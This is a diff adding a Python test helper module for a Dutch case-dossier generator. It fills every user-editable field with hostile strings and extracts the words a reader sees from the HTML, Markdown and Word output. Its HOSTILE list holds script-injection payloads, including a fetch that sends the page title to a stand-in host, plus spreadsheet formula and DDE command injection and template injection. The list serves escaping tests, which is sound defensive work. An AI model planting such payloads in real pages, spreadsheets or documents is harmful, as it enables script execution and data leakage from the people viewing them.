@@ -1,0 +1,115 @@
+"""
+What the tests of dossiers share: hostile strings, a case that holds them everywhere, and what a reader gets to see.
+"""
+
+from __future__ import annotations
+
+import html
+import io
+import re
+from typing import Any
+
+import attrs
+
+from taaktoedeling.dossier.page import page_text
+from taaktoedeling.model.casus import Casus
+from taaktoedeling.model.kader import Kader
+from taaktoedeling.reading.casus import casus_to_plain, load_casus, parse_casus, shipped_case
+
+HOSTILE = (
+    "<script>fetch('http://kwaad.example/'+document.title);alert(1)</script>",
+    '"><img src=http://kwaad.example/x.png onerror=alert(1)>',
+    "</script><script>alert(2)</script>",
+    "</style><style>@import url(http://kwaad.example/x.css)</style>",
+    "<svg onload=alert(3)><foreignObject><iframe src=javascript:alert(4)></iframe></foreignObject></svg>",
+    "<!-- <base href=http://kwaad.example/> --> ]]> <?xml-stylesheet href='http://kwaad.example/x'?>",
+    "[klik](javascript:alert(5)) ![plaat](http://kwaad.example/y.png) <http://kwaad.example>",
+    "``` `code` *vet* _schuin_ ~~weg~~ # kop | cel | $x^2$ {{7*7}} ${7*7} %n%s",
+    '=HYPERLINK("http://kwaad.example";"klik")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\\u003cscript\\u003e &lt;b&gt; &#60;i&#62; \\x3c",
+    "w:instrText HYPERLINK INCLUDETEXT { DDEAUTO c:\\\\windows }",
+)
+"""Strings that would do something where text is not kept apart from markup."""
+
+GENTLE = (
+    "\N{WOMAN}\N{ZERO WIDTH JOINER}\N{MICROSCOPE} \N{WAVING WHITE FLAG}\ufe0f\N{ZERO WIDTH JOINER}\N{RAINBOW}",
+    "שלום\u200f (rechts naar links)\u200e en terug, مرحبا",
+    "e\u0301 ﬁ ﷽ 𝕏 \u2028 \u2029 ı ß Ĳ",
+)
+"""Texts that are only unusual, and come through."""
+
+EVERYTHING = " ¶ ".join((*HOSTILE, *GENTLE))
+
+
+def hostile_casus(kader: Kader) -> Casus:
+    """A case in which a user typed hostile strings wherever a user can type."""
+    plain = casus_to_plain(load_casus(shipped_case("wmo-maatwerk"), kader))
+    for key in ("titel", "omschrijving", "perspectief", "beleidsterrein"):
+        plain["taak"][key] = EVERYTHING
+    plain["taak"]["bronnen"] = [*HOSTILE, *GENTLE]
+    for key in ("omschrijving", "bron"):
+        plain["aanleiding"][key] = EVERYTHING
+    for place, answer in enumerate([*plain["antwoorden"].values(), *plain["feitelijk"].values()]):
+        answer["toelichting"] = EVERYTHING
+        if not answer.get("aanname"):
+            answer["bron"] = HOSTILE[place % len(HOSTILE)]
+    plain["arrangement"] |= {"toelichting": EVERYTHING, "bron": EVERYTHING}
+    plain["motivering"] = {"BR-23": EVERYTHING, "ROB-1": EVERYTHING}
+    plain["oordeel"] |= {"wie": EVERYTHING, "strekking": EVERYTHING, "bron": EVERYTHING}
+    return parse_casus(plain, kader)
+
+
+def text_of_html(page: bytes) -> str:
+    """What a reader of the page sees, on one line; without its style sheet."""
+    shown = re.sub(r"<style>.*?</style>", "", page.decode("utf-8"), flags=re.DOTALL)
+    return squeeze(" ".join(page_text(shown)))
+
+
+def text_of_markdown(raw: bytes) -> str:
+    """The words of Markdown, without its marks."""
+    text = re.sub(r"\\([\\`*_\[\]{}#|~$^.:+=)-])", r"\1", raw.decode("utf-8").replace("**", ""))
+    return squeeze(html.unescape(text))
+
+
+def text_of_docx(raw: bytes) -> str:
+    """The words of a Word document, those in tables too, in the order of the file."""
+    import docx
+    from docx.oxml.ns import qn
+
+    body = docx.Document(io.BytesIO(raw)).element.body
+    words = ["".join(node.text or "\t" for node in p.iter(qn("w:t"), qn("w:tab"))) for p in body.iter(qn("w:p"))]
+    return squeeze(" ".join(words))
+
+
+def squeeze(text: str) -> str:
+    """Text with every run of blank space as one space, and none before a mark."""
+    return " ".join(text.split())
+
+
+def facts(dossier: dict[str, Any]) -> list[str]:
+    """Sentences and names that every form has to hold, as they stand in the data."""
+    advies = dossier["advies"]
+    found = [advies["taak"]["titel"], advies["taak"]["omschrijving"], dossier["sha256"]]
+    found += advies["conclusie"] + advies["beperkingen"] + advies["eigen_keuzen"]
+    found += [step["tekst"] for step in advies["stappen"]]
+    found += [text for vorm in advies["vormen"] for text in (vorm["label"], vorm["waarom"])]
+    for answer in advies["antwoorden"]:
+        found += [answer[key] for key in ("label", "vraag", "tekst", "toelichting", "bron")]
+    for rule in advies["regels"]:
+        if rule["staat"] != "geen":
+            found += [f"{rule['id']} {rule['naam']}", rule["tekst"], rule["vraag"], *rule["bronnen"]]
+    for tension in advies["spanningen"]:
+        found += [tension["tekst"], *(reading["tekst"] for reading in tension["lezingen"])]
+    for duty in advies["plichten"]:
+        found += [duty["tekst"], *(part["tekst"] for part in duty["onderdelen"])]
+    found += (dossier["evaluatie"] or {}).get("samenvatting", ())
+    herkomst = advies["herkomst"]
+    found += [herkomst["kader_sha256"], herkomst["casus_sha256"], herkomst["kaderversie"]]
+    found += [text for text in (dossier["robuustheid"] or {}).get("zinnen", ()) if text]
+    return [squeeze(text.rstrip(".")) for text in found if text]
+
+
+def changed(casus: Casus, **fields: Any) -> Casus:
+    """A case with another task."""
+    return attrs.evolve(casus, taak=attrs.evolve(casus.taak, **fields))
